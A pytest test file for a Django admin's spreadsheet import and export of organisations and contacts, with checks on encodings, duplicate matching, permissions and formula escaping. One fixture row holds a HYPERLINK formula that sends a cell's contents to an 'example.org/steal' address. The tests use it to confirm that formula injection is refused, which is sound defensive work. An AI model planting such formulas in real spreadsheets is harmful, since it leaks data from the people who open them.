"""Organisations and people imported from spreadsheets through the admin, and
change lists exported as the editors filtered them."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from config import page_cache
from contacts import tasks
from contacts.models import Contact, Organisation
from tests.factories import (
    ContactFactory,
    InterestRegistrationFactory,
    OrganisationFactory,
)

pytestmark = pytest.mark.django_db

HEADERS = [
    "Name",
    "Kurzform",
    "Art",
    "Land",
    "Stadt",
    "Website",
    "Beschreibung",
]
GOOD_ROWS = [
    # The existing "Université de Picardie Jules Verne", typed differently.
    [
        "universite de picardie jules verne",
        "UPJV",
        "Hochschule",
        "Frankreich",
        "Amiens",
        "www.u-picardie.fr/",
        None,
    ],
    [
        "Müller & Söhne Maschinenbau",
        None,
        "Unternehmen",
        "Deutschland",
        "Düsseldorf",
        None,
        "Große Pressen für Häfen; Straßen- und Brückenbau.",
    ],
    [
        "Korea Trade-Investment Promotion Agency",
        "KOTRA",
        "Öffentliche Einrichtung",
        "Südkorea",
        "Seoul",
        "https://www.kotra.or.kr",
        "",
    ],
    ["Chambre de Commerce Amiens-Picardie", None, "chamber", "FR", None, None, None],
    ["Tel Aviv Tech Hub", None, "Network", "Israel", "Tel Aviv", None, None],
]
BAD_COUNTRY_ROW = [
    "Atlantis Trading",
    None,
    "Unternehmen",
    "Atlantis",
    "Poseidonis",
    None,
    None,
]
FORMULA_ROW = [
    "Formel GmbH",
    None,
    "Unternehmen",
    "DE",
    "Köln",
    None,
    '=HYPERLINK("https://example.org/steal?"&A1,"Hier klicken")',
]


def xlsx_upload(headers, rows, name="liste.xlsx"):
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    # A row Excel keeps because it was formatted once: not a record.
    sheet.append([None] * len(headers))
    data = io.BytesIO()
    book.save(data)
    return SimpleUploadedFile(name, data.getvalue())


def csv_upload(headers, rows, *, encoding="utf-8-sig", delimiter=";"):
    text = io.StringIO()
    writer = csv.writer(text, delimiter=delimiter)
    writer.writerow(headers)
    writer.writerows([["" if cell is None else cell for cell in row] for row in rows])
    return SimpleUploadedFile("liste.csv", text.getvalue().encode(encoding))


FORMATS = {"csv": "0", "xlsx": "1"}


def preview(client, model, upload, file_format="xlsx"):
    url = reverse(f"admin:contacts_{model}_import")
    return client.post(
        url, {"format": FORMATS[file_format], "import_file": upload, "resource": "0"}
    )


def confirm(client, model, response):
    form = response.context["confirm_form"]
    data = {name: form.initial[name] for name in form.fields if name in form.initial}
    return client.post(reverse(f"admin:contacts_{model}_process_import"), data)


def import_file(client, model, upload, file_format="xlsx"):
    response = preview(client, model, upload, file_format)
    assert response.context.get("confirm_form"), response.content.decode()[-3000:]
    return confirm(client, model, response)


@pytest.fixture
def picardie():
    return OrganisationFactory(
        name="Université de Picardie Jules Verne",
        slug="upjv",
        kind=Organisation.Kind.UNIVERSITY,
        country="FR",
        city="",
        website="https://u-picardie.fr",
        description="Die Universität in Amiens.",
    )


def test_import_with_a_bad_country_and_a_formula_saves_nothing_and_names_the_rows(
    client, editor, picardie, settings
):
    client.force_login(editor)
    upload = xlsx_upload(HEADERS, [*GOOD_ROWS, BAD_COUNTRY_ROW, FORMULA_ROW])

    response = preview(client, "organisation", upload)

    page = response.content.decode()
    assert "confirm_form" not in response.context
    result = response.context["result"]
    invalid = {row.number: row.field_specific_errors for row in result.invalid_rows}
    # Rows as the spreadsheet numbers them, the header being row 1.
    assert set(invalid) == {7, 8}
    assert "Das Land „Atlantis“ kennen wir nicht" in invalid[7]["Land"][0]
    assert "Südkorea" in invalid[7]["Land"][0]
    assert "Formel" in invalid[8]["Beschreibung"][0]
    assert "Das Land „Atlantis“ kennen wir nicht" in page
    assert "Formeln werden nicht übernommen" in page
    assert Organisation.objects.count() == 1
    # The refused file is not kept for a confirmation that cannot come.
    assert not list((settings.MEDIA_ROOT / "django-import-export").iterdir())


def test_organisation_import_previews_then_saves_each_row_once(
    client, editor, picardie, django_capture_on_commit_callbacks, settings
):
    client.force_login(editor)
    version = page_cache.content_version()

    response = preview(client, "organisation", xlsx_upload(HEADERS, GOOD_ROWS))

    assert Organisation.objects.count() == 1  # the preview is a dry run
    result = response.context["result"]
    assert [row.import_type for row in result.valid_rows()] == [
        "update",
        "new",
        "new",
        "new",
        "new",
    ]
    with django_capture_on_commit_callbacks(execute=True):
        confirm(client, "organisation", response)

    assert not list((settings.MEDIA_ROOT / "django-import-export").iterdir())

    assert Organisation.objects.count() == 5
    picardie.refresh_from_db()
    assert (picardie.short_name, picardie.city) == ("UPJV", "Amiens")
    # Empty cells leave what was there; the stored website keeps its form.
    assert picardie.description == "Die Universität in Amiens."
    assert picardie.website == "https://u-picardie.fr"
    mueller = Organisation.objects.get(name_de="Müller & Söhne Maschinenbau")
    assert mueller.city == "Düsseldorf"
    assert mueller.country.code == "DE"
    assert mueller.kind == Organisation.Kind.COMPANY
    assert mueller.description == "Große Pressen für Häfen; Straßen- und Brückenbau."
    assert mueller.slug == "mueller-soehne-maschinenbau"
    assert mueller.website == ""
    kotra = Organisation.objects.get(short_name="KOTRA")
    assert (kotra.country.code, kotra.kind) == ("KR", Organisation.Kind.PUBLIC)
    chamber = Organisation.objects.get(name_de="Chambre de Commerce Amiens-Picardie")
    assert (chamber.country.code, chamber.kind) == ("FR", Organisation.Kind.CHAMBER)
    assert Organisation.objects.get(city="Tel Aviv").kind == Organisation.Kind.NETWORK
    # Saved one by one: history with the editor, and the public pages stale.
    assert mueller.history.get().history_user == editor
    assert picardie.history.first().history_type == "~"
    assert page_cache.content_version() > version


def test_importing_the_same_organisations_twice_creates_nothing_new(
    client, editor, picardie
):
    client.force_login(editor)
    import_file(client, "organisation", xlsx_upload(HEADERS, GOOD_ROWS))
    history_rows = Organisation.history.count()

    response = preview(client, "organisation", xlsx_upload(HEADERS, GOOD_ROWS))
    confirm(client, "organisation", response)

    result = response.context["result"]
    assert {row.import_type for row in result.valid_rows()} == {"skip"}
    assert Organisation.objects.count() == 5
    assert Organisation.history.count() == history_rows


@pytest.mark.parametrize(
    ("encoding", "delimiter"),
    [("utf-8-sig", ";"), ("utf-8", ","), ("cp1252", ";"), ("latin-1", ",")],
)
def test_csv_import_keeps_umlauts_in_every_encoding_excel_writes(
    client, editor, encoding, delimiter
):
    client.force_login(editor)
    upload = csv_upload(HEADERS, GOOD_ROWS[1:2], encoding=encoding, delimiter=delimiter)

    import_file(client, "organisation", upload, "csv")

    organisation = Organisation.objects.get()
    assert organisation.name == "Müller & Söhne Maschinenbau"
    assert organisation.city == "Düsseldorf"
    assert organisation.description.startswith("Große Pressen für Häfen")


def test_a_formula_in_a_csv_cell_is_refused(client, editor):
    client.force_login(editor)
    upload = csv_upload(HEADERS, [FORMULA_ROW])

    response = preview(client, "organisation", upload, "csv")

    assert "Formeln werden nicht übernommen" in response.content.decode()
    assert not Organisation.objects.exists()


CONTACT_HEADERS = [
    "Titel",
    "Vorname",
    "Nachname",
    "Funktion",
    "Organisation",
    "E-Mail",
    "Telefon",
    "Team",
    "öffentlich",
]


def test_contact_import_matches_people_by_email_or_by_name_in_their_organisation(
    client, editor, picardie
):
    client.force_login(editor)
    picardie.short_name = "UPJV"
    picardie.save()
    jurgen = ContactFactory(
        first_name="Jürgen", last_name="Groß", organisation=picardie, email=""
    )
    park = ContactFactory(
        first_name="Ji-woo",
        last_name="Park",
        organisation=None,
        email="ji-woo.park@example.org",
    )
    other_jurgen = ContactFactory(
        first_name="Jurgen", last_name="Gross", organisation=None, email=""
    )
    rows = [
        # Same person, written without accents, organisation by short form.
        ["Prof. Dr.", "JURGEN", "GROß", "Vizepräsident", "UPJV", "", "", "", "ja"],
        # Same person by e-mail, whatever the case.
        [None, "Jiwoo", "Park", "Trade Commissioner", None, "Ji-Woo.Park@Example.org",
         "+82 2 1234 5678", "Investor Support", "nein"],
        # A new person at an existing organisation.
        [None, "Zoë", "Bäcker", "Geschäftsführerin",
         "université de picardie jules verne", "zoe@example.fr", "+33 3 22 82 72 72",
         None, None],
    ]  # fmt: skip

    import_file(client, "contact", xlsx_upload(CONTACT_HEADERS, rows))

    assert Contact.objects.count() == 4
    jurgen.refresh_from_db()
    assert (jurgen.title, jurgen.role, jurgen.is_public) == (
        "Prof. Dr.",
        "Vizepräsident",
        True,
    )
    park.refresh_from_db()
    assert park.team == "Investor Support"
    assert park.phone.as_e164 == "+82212345678"
    zoe = Contact.objects.get(last_name="Bäcker")
    assert zoe.organisation == picardie
    assert (zoe.slug, zoe.is_public) == ("zoe-baecker", False)
    other_jurgen.refresh_from_db()
    assert other_jurgen.title == ""


def test_contact_import_refuses_an_unknown_organisation_in_german(client, editor):
    client.force_login(editor)
    rows = [[None, "Anna", "Nowak", None, "Gibt-es-nicht AG", None, None, None, None]]

    response = preview(client, "contact", xlsx_upload(CONTACT_HEADERS, rows))

    row = response.context["result"].invalid_rows[0]
    assert row.number == 2
    assert (
        "Eine Organisation „Gibt-es-nicht AG“ gibt es"
        in (row.field_specific_errors["Organisation"][0])
    )
    assert not Contact.objects.exists()


def test_two_hundred_contacts_imported_twice_are_two_hundred(client, editor):
    client.force_login(editor)
    organisation = OrganisationFactory(name="Stadt Dortmund")
    rows = [
        [None, f"Vorname{n}", f"Nachname{n}", "Referentin", organisation.name,
         f"person{n}@example.org" if n % 2 else "", None, None, "nein"]
        for n in range(200)
    ]  # fmt: skip

    import_file(client, "contact", xlsx_upload(CONTACT_HEADERS, rows))
    import_file(client, "contact", xlsx_upload(CONTACT_HEADERS, rows))

    assert Contact.objects.count() == 200
    assert Contact.objects.filter(organisation=organisation).count() == 200


def test_without_add_permission_there_is_no_import(client, django_user_model):
    user = django_user_model.objects.create_user("reader", is_staff=True)
    user.user_permissions.add(
        *Permission.objects.filter(
            codename__in=["view_organisation", "change_organisation"]
        )
    )
    client.force_login(user)

    changelist = client.get(reverse("admin:contacts_organisation_changelist"))
    refused = client.get(reverse("admin:contacts_organisation_import"))

    assert reverse("admin:contacts_organisation_import") not in (
        changelist.content.decode()
    )
    assert refused.status_code == 403


def test_editor_finds_the_import_page_with_its_columns_and_scripts(client, editor):
    client.force_login(editor)
    changelist = client.get(reverse("admin:contacts_organisation_changelist"))

    page = client.get(reverse("admin:contacts_organisation_import"))

    assert reverse("admin:contacts_organisation_import") in changelist.content.decode()
    content = page.content.decode()
    assert "Kurzform, Kurzname, Art, Land, Stadt, Website, Beschreibung" in content
    # Only scripts from our own origin: the admin's CSP allows them.
    assert "script-src 'self'" in page["Content-Security-Policy"]
    assert 'src="http' not in content
    assert "import_export/guess_format.js" in content
    assert "am Kurznamen erkannt, sonst an der Website" in content
    assert "Eine Zelle, die mit „=“ beginnt (eine Formel), wird abgelehnt" in content


def export(client, model, query, file_format="xlsx", app="contacts"):
    url = reverse(f"admin:{app}_{model}_export") + query
    form = client.get(url).context["form"]
    data = {"format": FORMATS[file_format], "resource": "0"}
    data.update(
        {
            name: "on"
            for name, field in form.fields.items()
            if field.__class__.__name__ == "BooleanField"
        }
    )
    return client.post(url, data)


def xlsx_rows(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [list(row) for row in book.active.iter_rows(values_only=True)]


def test_organisations_filtered_by_country_export_only_those_rows(client, editor):
    client.force_login(editor)
    OrganisationFactory(name="KOTRA Seoul", country="KR", kind="public")
    OrganisationFactory(name="Samsung", country="KR", website="https://samsung.com")
    OrganisationFactory(name="IHK zu Dortmund", country="DE", kind="chamber")

    response = export(client, "organisation", "?country=KR")

    rows = xlsx_rows(response)
    assert rows[0][:7] == [
        "Name",
        "Name (englisch)",
        "Kurzform",
        "Kurzname",
        "Art",
        "Land",
        "Stadt",
    ]
    assert sorted(row[0] for row in rows[1:]) == ["KOTRA Seoul", "Samsung"]
    kotra = next(row for row in rows if row[0] == "KOTRA Seoul")
    assert kotra[4:7] == ["Öffentliche Einrichtung", "Südkorea", "Dortmund"]
    assert response["Content-Disposition"].endswith('.xlsx"')


def test_export_never_writes_a_formula(client, editor):
    client.force_login(editor)
    OrganisationFactory(name="=1+1", description="@SUM(A1)")

    xlsx = xlsx_rows(export(client, "organisation", ""))
    text = export(client, "organisation", "", "csv").content.decode("utf-8")

    assert xlsx[1][0] == "'=1+1"
    assert text.startswith("\ufeffName;")
    assert "'=1+1;" in text
    assert ";'@SUM(A1);" in text


def test_an_exported_file_imports_again_without_changes(client, editor, picardie):
    client.force_login(editor)
    exported = export(client, "organisation", "")
    upload = SimpleUploadedFile("export.xlsx", exported.content)

    response = preview(client, "organisation", upload)

    assert [row.import_type for row in response.context["result"].valid_rows()] == [
        "skip"
    ]


def test_registrations_export_is_for_managers_only(client, editor, manager):
    InterestRegistrationFactory(name="Ji-woo Park", organisation="Patika Robotics")
    url = reverse("admin:contacts_interestregistration_export")
    client.force_login(editor)
    refused = client.post(url, {"format": "1"})
    client.force_login(manager)
    changelist = client.get(reverse("admin:contacts_interestregistration_changelist"))

    response = client.post(url, {"format": "1"})

    assert refused.status_code == 403
    assert url in changelist.content.decode()
    assert "Auskunft / Löschung nach E-Mail" in changelist.content.decode()
    rows = xlsx_rows(response)
    assert rows[0][:3] == ["ID", "Eingegangen", "Status"]
    assert rows[1][3:5] == ["Ji-woo Park", "Patika Robotics"]


CONTENT_EXPORTS = [
    "contacts_topic",
    "contacts_organisation",
    "contacts_contact",
    "delegations_partnercity",
    "delegations_delegation",
    "events_event",
    "events_report",
]


@pytest.mark.parametrize("role", ["editor", "manager"])
def test_staff_may_export_every_content_list_but_editors_no_registrations(
    client, role, request
):
    client.force_login(request.getfixturevalue(role))

    pages = {
        name: client.get(reverse(f"admin:{name}_export"))
        for name in [*CONTENT_EXPORTS, "contacts_interestregistration"]
    }

    for name in CONTENT_EXPORTS:
        choices = pages[name].context["form"].fields["format"].choices
        offered = [label for value, label in choices if value != ""]
        assert offered == ["csv", "xlsx"], name
    registrations = pages["contacts_interestregistration"]
    assert registrations.status_code == (403 if role == "editor" else 200)


def test_exported_people_as_csv_import_again_without_changes(client, editor):
    client.force_login(editor)
    ContactFactory(
        first_name="Ji-woo",
        last_name="Park",
        phone="+82 2 1234 5678",
        role="-- Leitung --",
        is_public=True,
    )
    exported = export(client, "contact", "", "csv")
    assert "'+82 2-1234-5678" in exported.content.decode("utf-8")
    upload = SimpleUploadedFile("personen.csv", exported.content)

    response = preview(client, "contact", upload, "csv")

    rows = response.context["result"].valid_rows()
    assert [row.import_type for row in rows] == ["skip"]


def test_an_unconfirmed_import_file_is_deleted_after_a_day(client, editor, settings):
    client.force_login(editor)
    preview(client, "organisation", xlsx_upload(HEADERS, GOOD_ROWS))
    folder = settings.MEDIA_ROOT / "django-import-export"
    assert len(list(folder.iterdir())) == 1

    kept = tasks.remove_stale_import_files()
    removed = tasks.remove_stale_import_files(max_age=datetime.timedelta(0))

    assert (kept, removed) == (0, 1)
    assert not list(folder.iterdir())
